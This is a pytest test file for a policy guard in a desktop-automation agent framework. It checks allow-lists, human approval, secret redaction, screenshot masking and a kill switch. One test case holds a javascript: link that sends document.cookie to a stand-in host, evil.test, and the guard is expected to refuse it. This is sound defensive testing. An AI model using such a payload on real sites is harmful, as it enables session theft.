"""The guard over the fake backend: what it lets through, refuses, asks about, and how it records it."""

from __future__ import annotations

import io
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from deskhand.backends.fake import FakeBackend
from deskhand.errors import ApprovalRejected, PolicyDenied, RunStopped, SecretMissing
from deskhand.locate.desktop import Desktop
from deskhand.policy.approval import ApprovalRequest, CallbackApprover
from deskhand.policy.guard import Guard, GuardedBackend
from deskhand.policy.killswitch import Budget, KillSwitch
from deskhand.policy.rules import Policy, StepPolicy
from deskhand.policy.secrets import Redactor, SecretStore
from deskhand.tree.node import Bounds
from deskhand.workflows.model import StepRef
from deskhand.workflows.secret_text import with_secrets

TREES = Path(__file__).resolve().parents[2] / "fixtures" / "trees"
FIRST_NAME = ":1.55/org/a11y/atspi/accessible/2"
PASSWORD = ":1.55/org/a11y/atspi/accessible/11"
CREATE = ":1.55/org/a11y/atspi/accessible/59"
ADDRESS_BAR = ":1.55/org/a11y/atspi/accessible/69"
STEP = StepPolicy(run_id="r-1", n=3, sentence='Click "Create account"')


@dataclass
class Sinks:
    events: list[tuple[str, int | None, str, dict[str, Any]]] = field(default_factory=list)
    audit: list[tuple[str, int | None, str, dict[str, Any], str | None]] = field(default_factory=list)

    def record_event(self, run_id: str, step: int | None, kind: str, data: Mapping[str, Any]) -> None:
        self.events.append((run_id, step, kind, dict(data)))

    def append(
        self, run_id: str, step: int | None, action: str, target: Mapping[str, Any], value_redacted: str | None
    ) -> None:
        self.audit.append((run_id, step, action, dict(target), value_redacted))

    def kinds(self) -> list[str]:
        return [e[2] for e in self.events]


@pytest.fixture
def fake() -> FakeBackend:
    return FakeBackend.from_files(TREES / "web_form.json", TREES / "zenity_form.json")


def make_guard(fake: FakeBackend, policy: Policy, sinks: Sinks, **overrides: Any) -> GuardedBackend:
    guard = Guard(policy=policy, audit=sinks, events=sinks, store=SecretStore(env={}), **overrides)
    guarded = GuardedBackend(fake, guard)
    guarded.begin_step(STEP)
    return guarded


def web_policy(**changes: Any) -> Policy:
    values: dict[str, Any] = {"apps": ("browser",), "sites": ("https://example.test",), **changes}
    return Policy(**values)


def inputs(fake: FakeBackend) -> list[tuple[object, ...]]:
    reads = {"applications", "snapshot", "refresh", "screenshot", "wait_for_change", "invalidate"}
    return [entry for entry in fake.log if entry[0] not in reads]


def test_allowed_app_and_site_pass_and_are_audited(fake: FakeBackend) -> None:
    sinks = Sinks()
    guarded = make_guard(fake, web_policy(), sinks)
    Desktop(guarded).app("Chromium").get_by_role("textbox", name="First name").fill("Ada")
    assert inputs(fake) == [("set_text", FIRST_NAME, "Ada")]
    assert sinks.audit[0][:3] == ("r-1", 3, "set_text")
    assert sinks.audit[0][3]["name"] == "First name" and sinks.audit[0][3]["origin"] == "example.test/signup"
    assert sinks.audit[0][4] == "Ada"


def test_an_app_outside_the_list_is_neither_read_nor_touched(fake: FakeBackend) -> None:
    sinks = Sinks()
    guarded = make_guard(fake, web_policy(), sinks)
    zenity = next(a for a in fake.applications() if a.name == "zenity")
    with pytest.raises(PolicyDenied, match="'zenity' is not in this workflow's apps"):
        guarded.snapshot(zenity.ref)
    button = next(n for n in fake.snapshot(zenity.ref).walk() if n.role == "button")
    with pytest.raises(PolicyDenied):
        guarded.click(button.ref)
    assert inputs(fake) == []
    assert sinks.kinds() == ["blocked", "blocked"]
    assert sinks.events[1][3]["action"] == "click" and "apps" in sinks.events[1][3]["reason"]
    assert [a[2] for a in sinks.audit] == ["refused read", "refused click"]


def test_a_page_of_another_site_is_hidden_and_cannot_be_acted_on(fake: FakeBackend) -> None:
    sinks = Sinks()
    guarded = make_guard(fake, web_policy(sites=("https://other.test",)), sinks)
    chromium = next(a for a in fake.applications() if a.name == "Chromium")
    shown = guarded.snapshot(chromium.ref)
    assert shown.find(FIRST_NAME) is None  # the page's content is gone
    assert shown.find(ADDRESS_BAR) is not None  # the browser's own controls stay
    with pytest.raises(PolicyDenied, match=r"example\.test/signup is not in this workflow's sites"):
        guarded.set_text(FIRST_NAME, "Ada")
    assert inputs(fake) == []
    assert "blocked" in sinks.kinds()


def test_navigating_to_a_site_outside_the_list_is_refused(fake: FakeBackend) -> None:
    sinks = Sinks()
    guarded = make_guard(fake, web_policy(), sinks)
    guarded.set_text(ADDRESS_BAR, "evil.test/steal")
    fake.focus(ADDRESS_BAR)
    with pytest.raises(PolicyDenied, match=r"evil\.test/steal is not in this workflow's sites"):
        guarded.press("Enter")
    assert ("press", "Enter") not in inputs(fake)


def test_an_irreversible_click_needs_approval(fake: FakeBackend) -> None:
    sinks = Sinks()
    guarded = make_guard(fake, web_policy(), sinks)  # the default approver says no
    with pytest.raises(ApprovalRejected, match=r"Not approved: click on button 'Create account'.*'create'"):
        guarded.click(CREATE)
    assert inputs(fake) == []
    approval = next(e for e in sinks.events if e[2] == "approval")
    assert approval[3]["approved"] is False


def test_a_preapproved_step_goes_ahead(fake: FakeBackend) -> None:
    sinks = Sinks()
    guarded = make_guard(fake, web_policy(), sinks)
    guarded.begin_step(StepPolicy("r-1", 3, 'Click "Create account"', preapproved=True))
    guarded.click(CREATE)
    assert inputs(fake) == [("click", CREATE, "left", 1)]


def test_the_request_shows_the_form_and_an_approval_goes_ahead(fake: FakeBackend) -> None:
    sinks = Sinks()
    approver = CallbackApprover(lambda request: True)
    guarded = make_guard(fake, web_policy(), sinks, approver=approver)
    fake.set_text(FIRST_NAME, "Ada")
    guarded.click(CREATE)
    (request,) = approver.asked
    assert ("First name", "Ada") in [(f.label, f.value) for f in request.fields]
    assert request.screenshot_png and request.screenshot_png.startswith(b"\x89PNG")
    assert "create account" in request.text().casefold()
    assert inputs(fake)[-1] == ("click", CREATE, "left", 1)


def test_an_approval_is_void_when_a_field_changes_after_it(fake: FakeBackend) -> None:
    sinks = Sinks()

    def approve_then_change(request: ApprovalRequest) -> bool:
        fake.set_text(FIRST_NAME, "Mallory")  # something changes the form while the person looks
        return True

    guarded = make_guard(fake, web_policy(), sinks, approver=CallbackApprover(approve_then_change))
    with pytest.raises(ApprovalRejected, match=r"void.*First name: '' → 'Mallory'"):
        guarded.click(CREATE)
    assert ("click", CREATE, "left", 1) not in inputs(fake)


def test_a_confirm_step_asks_once(fake: FakeBackend) -> None:
    sinks = Sinks()
    approver = CallbackApprover(lambda request: True)
    guarded = make_guard(fake, web_policy(confirm=(StepRef(number=3),)), sinks, approver=approver)
    guarded.begin_step(StepPolicy("r-1", 3, "Fill the form", needs_confirmation=True))
    guarded.set_text(FIRST_NAME, "Ada")
    guarded.set_text(PASSWORD, "x")
    assert len(approver.asked) == 1


def test_secrets_are_typed_only_as_values_and_read_back_as_placeholders(fake: FakeBackend) -> None:
    sinks = Sinks()
    redactor = Redactor()
    guard = Guard(
        policy=web_policy(secrets=("pw",)),
        audit=sinks,
        events=sinks,
        redactor=redactor,
        store=SecretStore(env={"DESKHAND_SECRET_PW": "hunter2-canary"}),
    )
    guarded = GuardedBackend(fake, guard)
    guarded.begin_step(STEP)
    Desktop(guarded).app("Chromium").get_by_role("textbox", name="Password").fill(with_secrets("{secret:pw}"))
    assert ("set_text", PASSWORD, "hunter2-canary") in inputs(fake)
    assert guarded.refresh(PASSWORD).value == "{secret:pw}"
    chromium = next(a for a in fake.applications() if a.name == "Chromium")
    assert "hunter2-canary" not in repr(guarded.snapshot(chromium.ref))
    assert "hunter2-canary" not in repr(sinks.audit) and "{secret:pw}" in repr(sinks.audit)
    assert redactor("pw is hunter2-canary") == "pw is {secret:pw}"


def test_an_undeclared_or_unset_secret_is_refused_before_typing(fake: FakeBackend, file_keyring: Path) -> None:
    sinks = Sinks()
    guarded = make_guard(fake, web_policy(secrets=("pw",)), sinks)
    with pytest.raises(PolicyDenied, match="'bank_pin' is not declared"):
        guarded.set_text(PASSWORD, with_secrets("{secret:bank_pin}"))
    # The refusal is named in the run record and the audit log, and nothing was logged as typed.
    assert [e[3]["reason"] for e in sinks.events if e[2] == "blocked"][-1].startswith("the secret 'bank_pin'")
    assert [e[2] for e in sinks.audit][-1] == "refused set_text"
    with pytest.raises(SecretMissing, match="'pw' is not set"):
        guarded.set_text(PASSWORD, with_secrets("{secret:pw}"))
    assert inputs(fake) == []


def test_a_plain_string_is_typed_literally_even_when_it_names_a_secret(fake: FakeBackend) -> None:
    """Taint: only a SecretText carries secret references; text from data is a plain str and types as it is."""
    guard = Guard(policy=web_policy(secrets=("pw",)), store=SecretStore(env={"DESKHAND_SECRET_PW": "hunter2-canary"}))
    guarded = GuardedBackend(fake, guard)
    guarded.begin_step(STEP)
    guarded.set_text(PASSWORD, "my pin is {secret:pw}")
    guarded.set_text(PASSWORD, with_secrets("a {secret:pw} b") + "")  # any str operation drops the references
    assert [typed for *_, typed in inputs(fake)] == ["my pin is {secret:pw}", "a {secret:pw} b"]


def test_screenshots_mask_password_fields(fake: FakeBackend) -> None:
    guarded = make_guard(fake, web_policy(), Sinks())
    password = fake.refresh(PASSWORD)
    assert password.bounds is not None
    shot = Image.open(io.BytesIO(guarded.screenshot()))
    x, y = password.bounds.center
    assert shot.getpixel((x, y)) == (0, 0, 0)
    assert shot.getpixel((1, 1)) == (255, 255, 255)
    part = Image.open(io.BytesIO(guarded.screenshot(Bounds(x - 5, y - 5, 10, 10))))
    assert part.getpixel((5, 5)) == (0, 0, 0)


def test_a_stop_refuses_every_later_event_and_read(fake: FakeBackend) -> None:
    kill = KillSwitch()
    guarded = make_guard(fake, web_policy(), Sinks(), kill=kill)
    kill.stop("Stopped by Ctrl-C.")
    with pytest.raises(RunStopped, match="Ctrl-C"):
        guarded.set_text(FIRST_NAME, "Ada")
    with pytest.raises(RunStopped):
        guarded.applications()
    assert inputs(fake) == []


def test_the_step_budget_stops_the_run(fake: FakeBackend) -> None:
    guarded = make_guard(fake, web_policy(), Sinks(), budget=Budget(max_steps=1))
    guarded.set_text(FIRST_NAME, "Ada")  # step 1 of 1
    guarded.begin_step(StepPolicy("r-1", 4))
    with pytest.raises(RunStopped, match="limit of 1 steps"):
        guarded.set_text(FIRST_NAME, "Bob")
    assert inputs(fake) == [("set_text", FIRST_NAME, "Ada")]


LINK = ":1.55/org/a11y/atspi/accessible/61"


@pytest.mark.parametrize(
    ("href", "allowed"),
    [
        ("https://evil.test/login", False),
        ("javascript:fetch('https://evil.test/?c='+document.cookie)", False),
        ("/signin", True),  # relative: stays on the allowed site
        ("https://example.test/signin", True),
    ],
)
def test_a_link_is_judged_by_where_it_leads(fake: FakeBackend, href: str, allowed: bool) -> None:
    fake.update(LINK, attributes={"href": href})
    sinks = Sinks()
    guarded = make_guard(fake, web_policy(), sinks)
    if allowed:
        guarded.click(LINK)
        assert ("click", LINK, "left", 1) in inputs(fake)
    else:
        with pytest.raises(PolicyDenied, match="not in this workflow's sites"):
            guarded.click(LINK)
        assert inputs(fake) == []
        assert "blocked" in sinks.kinds()
